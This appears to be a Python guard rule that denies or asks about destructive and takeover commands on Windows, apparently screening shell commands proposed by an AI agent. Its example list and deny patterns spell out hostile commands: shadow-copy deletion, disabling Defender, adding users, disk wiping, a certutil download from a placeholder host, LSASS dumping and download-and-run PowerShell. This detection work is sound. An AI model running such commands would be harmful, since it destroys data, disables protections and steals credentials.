"""Stop commands that destroy, weaken or take over a Windows machine, in `cmd` or PowerShell."""

import re
from collections.abc import Iterator

from snell.model.tool_names import name_set
from snell.packs.guard.path_classes import Workspace
from snell.packs.guard.rule import Finding, Rule
from snell.packs.guard.shell.shell_state import Step
from snell.packs.guard.triggers import Trigger
from snell.system.lazy_regex import lazy_regex

RULE = Rule(
    name="windows",
    family="system",
    instead="let an administrator of the machine do this",
    flagged=(
        "vssadmin delete shadows /all /quiet",
        "reg delete HKLM/Software /f",
        "net user eve x /add",
        "Set-MpPreference -DisableRealtimeMonitoring 1",
        "Clear-Disk -Number 0",
        "certutil -urlcache -split -f http://x.example/a.exe a.exe",
        "Get-ChildItem C:/ -Recurse | Remove-Item -Force",
        "schtasks /create /tn x /tr y",
    ),
    fine=("reg query HKLM/Software", "net use", "Get-Process", "schtasks /query", "sc query", "taskkill /im node.exe"),
)

_DENIED = lazy_regex(
    r"(?:reg (?:delete|add .*/run\b|add .*\\run\b|save|unload|import)|vssadmin (?:delete|resize)|"
    r"wmic (?:.* )?(?:delete|uninstall)"
    r"|wbadmin (?:delete|disable)|bcdedit .*(?:/set|/delete|-set)|(?:set|add)-mppreference .*-(?:disable|exclusion)"
    r"|net1? (?:user .*/(?:add|active|delete)|localgroup .*/add|stop )|(?:new|remove|disable|set)-localuser|"
    r"add-localgroupmember"
    r"|netsh (?:advfirewall|firewall) .*(?:off|disable|delete|reset)|set-netfirewallprofile .*false|disable-netadapter"
    r"|schtasks .*/(?:create|delete|change)|register-scheduledtask|unregister-scheduledtask|new-service|remove-service"
    r"|sc(?:\.exe)? (?:delete|create|config|stop)|cipher .*/w|wevtutil (?:cl|clear-log)|(?:clear|remove|limit)-eventlog"
    r"|clear-disk|format-volume|initialize-disk|remove-partition|clear-recyclebin|diskpart|format(?:\.com)? [a-z]:"
    r"|stop-computer|restart-computer|takeown|icacls .*(?:everyone|/reset|/grant)|fsutil (?:usn deletejournal|"
    r"file setzerodata)"
    r"|sdelete|manage-bde .*-off|disable-bitlocker|mshta (?:.*https?:|javascript:|vbscript:)|regsvr32 .*/i:|"
    r"rundll32 .*(?:javascript|https?:)"
    r"|certutil .*-(?:urlcache|decode|decodehex)|bitsadmin .*/(?:transfer|addfile)|msiexec .*https?:|(?:w|"
    r"c)script .*https?:"
    r"|procdump.* lsass|ntdsutil|cmdkey /list|vaultcmd|disable-windowsoptionalfeature|disable-computerrestore"
    r"|remove-itemproperty .*hk(?:lm|cu)|remove-(?:aduser|adcomputer|vm|az\w+|azure\w+)|stop-az\w+|"
    r"set-smbserverconfiguration"
    r"|taskkill .*/im (?:lsass|csrss|winlogon|services|svchost|wininit|explorer|\*)|stop-process .*(?:lsass|csrss|"
    r"winlogon|-name \*))",
    re.IGNORECASE,
)
_ASKED = lazy_regex(
    r"(?:set-executionpolicy|stop-service|set-service .*disabled|reg add|set-itemproperty .*hk(?:lm|cu)|"
    r"start-process .*runas"
    r"|new-itemproperty .*hk(?:lm|cu)|clear-content|dism .*/(?:disable|remove)|enable-psremoting|attrib .*[+-][shr])",
    re.IGNORECASE,
)
_FIRST = name_set(
    "reg vssadmin wmic wbadmin bcdedit set-mppreference add-mppreference net net1 new-localuser remove-localuser "
    "disable-localuser set-localuser add-localgroupmember netsh set-netfirewallprofile disable-netadapter schtasks "
    "register-scheduledtask unregister-scheduledtask new-service remove-service sc cipher wevtutil clear-eventlog "
    "remove-eventlog limit-eventlog clear-disk format-volume initialize-disk remove-partition clear-recyclebin "
    "diskpart "
    "format format.com stop-computer restart-computer takeown icacls fsutil sdelete sdelete64 manage-bde "
    "disable-bitlocker "
    "mshta regsvr32 rundll32 certutil bitsadmin msiexec wscript cscript procdump procdump64 ntdsutil cmdkey vaultcmd "
    "disable-windowsoptionalfeature disable-computerrestore remove-itemproperty remove-aduser remove-adcomputer "
    "remove-vm "
    "set-smbserverconfiguration taskkill stop-process set-executionpolicy stop-service set-service set-itemproperty "
    "start-process new-itemproperty clear-content dism enable-psremoting attrib"
)
_LISTS = frozenset(("get-childitem", "gci", "dir", "ls"))

TRIGGER = Trigger(programs=_FIRST | {"remove-item", "ri", "rm", "del"}, prefixes=("remove-az", "stop-az"))


def find(step: Step, _workspace: Workspace) -> Iterator[Finding]:
    program = step.program
    if program in ("remove-item", "ri", "rm", "del") and step.stdin is not None and _lists_all(step):
        yield RULE.deny("it deletes all results of an unfiltered search")
    if program not in _FIRST and not program.startswith(("remove-az", "stop-az")):
        return
    text = " ".join((program, *step.args))[:2000]
    if _DENIED.match(text):
        yield RULE.deny(f"`{step.text[:80]}` destroys, weakens or takes over the machine")
    elif _ASKED.match(text):
        yield RULE.ask(f"`{step.text[:80]}` changes the machine for all its users")


_FETCHES_AND_RUNS = lazy_regex(
    r"^\s*(?:iex|invoke-expression)\b.*(?:downloadstring|downloadfile|iwr|irm|invoke-webrequest|invoke-restmethod)\b"
    r"|^\s*\(?(?:new-object|iwr|irm|invoke-webrequest|invoke-restmethod)\b.*\|\s*(?:iex|invoke-expression)\b",
    re.IGNORECASE,
)


def find_unread(command: str) -> Iterator[Finding]:
    """Judge PowerShell text that is no valid shell command."""
    if _FETCHES_AND_RUNS.match(command[:4000]):
        yield RULE.deny("it runs code from the network that was not reviewed")


def _lists_all(step: Step) -> bool:
    return step.stdin is not None and any(step.stdin.detail("output") == name for name in _LISTS)
